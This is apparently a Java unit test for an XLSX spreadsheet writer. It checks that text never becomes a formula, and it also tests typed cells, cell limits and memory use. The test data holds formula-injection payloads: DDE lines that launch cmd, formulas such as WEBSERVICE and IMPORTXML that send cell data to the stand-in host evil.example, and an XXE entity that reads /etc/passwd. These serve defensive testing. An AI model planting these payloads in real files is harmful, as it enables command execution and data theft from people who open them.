package aftersales.documents.xlsx;

import static org.assertj.core.api.Assertions.assertThat;

import aftersales.application.kernel.SheetTable;
import aftersales.application.kernel.SheetTable.Amount;
import aftersales.application.kernel.SheetTable.Blank;
import aftersales.application.kernel.SheetTable.Cell;
import aftersales.application.kernel.SheetTable.Count;
import aftersales.application.kernel.SheetTable.Day;
import aftersales.application.kernel.SheetTable.Moment;
import aftersales.application.kernel.SheetTable.Share;
import aftersales.application.kernel.SheetTable.Text;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class XlsxSpreadsheetsTest {
    @TempDir
    Path folder;

    /** What spreadsheet programs take for a formula, a command or a link; from the known lists of such payloads. */
    static Stream<String> payloads() {
        return Stream.of(
                "=1+1",
                "=SUM(A1:A9)",
                "=cmd|'/C calc'!A0",
                "=cmd|' /C notepad'!'A1'",
                "=HYPERLINK(\"http://evil.example\",\"click\")",
                "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
                "=IMPORTFEED(CONCAT(\"http://evil.example/\",A1))",
                "=WEBSERVICE(\"http://evil.example/\"&A1)",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "=rundll32|'URL.dll,OpenURL calc.exe'!A",
                "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
                "+1+1",
                "+8613812341234",
                "+cmd|' /C calc'!A0",
                "-1+1",
                "-",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "@",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\uff1d1+1",
                "\uff0b1+1",
                "\uff0d1+1",
                "\uff20SUM(1)",
                "';=1+1",
                "\"=1+1",
                "\"\"\"=1+1",
                ",=1+1",
                ";=1+1",
                "%0A=1+1",
                "<f>1+1</f>",
                "</t></is></c><c><f>1+1</f>",
                "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
                "1E5",
                "0012",
                "TRUE",
                "2026-11-22");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void aTextIsNeverAFormula(String payload) throws IOException {
        byte[] file = written(List.of(List.of(new Text(payload))));

        assertThat(sheetXml(file)).doesNotContain("<f>", "<f ", "t=\"str\"");
        var cell = rows(file).get(1).getCell(0);
        assertThat(cell.getType()).isEqualTo(CellType.STRING);
        // XML reads every line end as a line feed
        assertThat(cell.getText()).isEqualTo(payload.replace("\r", "\n"));
    }

    @Test
    void numbersDatesAndMoneyAreTyped() throws IOException {
        var row = List.<Cell>of(
                new Count(new BigDecimal("12.5")),
                new Amount(new BigDecimal("1128.00")),
                new Share(new BigDecimal("0.375")),
                new Day(LocalDate.of(2026, 11, 22)),
                new Moment(LocalDateTime.of(2026, 11, 22, 14, 5)),
                new Blank(),
                new Text("上海"));
        var read = rows(written(List.of(row))).get(1);

        assertThat(read.getCellAsNumber(0).orElseThrow()).isEqualByComparingTo("12.5");
        assertThat(read.getCellAsNumber(1).orElseThrow()).isEqualByComparingTo("1128");
        assertThat(read.getCellAsNumber(2).orElseThrow()).isEqualByComparingTo("0.375");
        assertThat(read.getCellAsDate(3).orElseThrow()).isEqualTo(LocalDateTime.of(2026, 11, 22, 0, 0));
        assertThat(read.getCellAsDate(4).orElseThrow()).isEqualTo(LocalDateTime.of(2026, 11, 22, 14, 5));
        assertThat(read.getCellText(5)).isEmpty();
        assertThat(read.getCellAsString(6)).contains("上海");
    }

    @Test
    void whatACellCannotHoldIsLeftOut() throws IOException {
        var read = rows(written(List.of(List.of(new Text("a\u0000b\uD800c\uFFFFd"), new Text("x".repeat(40_000))))))
                .get(1);
        assertThat(read.getCellText(0)).isEqualTo("abcd");
        assertThat(read.getCellText(1)).hasSize(32_767);
    }

    @Test
    void aHundredThousandRowsDoNotFillTheMemory() {
        var rows = IntStream.range(0, 100_000)
                .mapToObj(i -> IntStream.range(0, 10)
                        .<Cell>mapToObj(c -> new Text("unique text of row " + i + " and column " + c))
                        .toList())
                .iterator();
        var headings = IntStream.range(0, 10).mapToObj(c -> "c" + c).toList();
        long before = used();
        long[] most = {before};
        int[] read = {0};
        var watched = new java.util.Iterator<List<Cell>>() {
            @Override
            public boolean hasNext() {
                return rows.hasNext();
            }

            @Override
            public List<Cell> next() {
                if (++read[0] % 20_000 == 0) {
                    most[0] = Math.max(most[0], used());
                }
                return rows.next();
            }
        };
        long count = new XlsxSpreadsheets()
                .write(new SheetTable("long", headings, watched), OutputStream.nullOutputStream());

        assertThat(count).isEqualTo(100_000);
        assertThat(most[0] - before).as("bytes held while writing").isLessThan(20_000_000);
    }

    private static long used() {
        System.gc();
        return Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory();
    }

    private static byte[] written(List<List<Cell>> rows) {
        var file = new ByteArrayOutputStream();
        var headings =
                IntStream.range(0, rows.get(0).size()).mapToObj(c -> "=h" + c).toList();
        new XlsxSpreadsheets().write(new SheetTable("a/b[c]:d", headings, rows.iterator()), file);
        return file.toByteArray();
    }

    private static List<Row> rows(byte[] file) throws IOException {
        try (var book = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            return book.getFirstSheet().read();
        }
    }

    /** Through the directory at the file's end, as spreadsheet programs read it. */
    private String sheetXml(byte[] file) throws IOException {
        var path = Files.write(folder.resolve("table.xlsx"), file);
        try (var zip = new ZipFile(path.toFile());
                var sheet = zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))) {
            return new String(sheet.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
